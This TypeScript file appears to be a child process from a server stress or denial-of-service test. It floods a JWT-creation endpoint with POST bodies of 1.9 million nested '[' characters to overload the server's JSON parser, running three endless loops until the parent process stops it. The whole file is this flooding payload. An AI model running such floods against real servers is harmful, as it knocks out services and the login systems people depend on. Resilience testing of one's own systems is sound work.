// Strangers in a process of their own: flood-strangers.ts <url>. Three loops of endlessly nesting bodies, until `end`.
const LOOPS = 3;
const DEEP = '['.repeat(1_900_000);
const [url = ''] = process.argv.slice(2);
let isOver = false;
let tries = 0;

async function send(): Promise<void> {
  tries += 1;
  try {
    const headers = { 'content-type': 'application/json' };
    const response = await fetch(`${url}/api/auth/jwt/create/`, { method: 'POST', headers, body: DEEP });
    await response.text();
  } catch {
    // The server closed the connection before the end of the body.
  }
}

for (let loop = 0; loop < LOOPS; loop += 1) {
  void (async () => {
    while (!isOver) await send();
  })();
}
process.on('message', () => {
  isOver = true;
  process.send?.(tries);
});
process.send?.('begun');
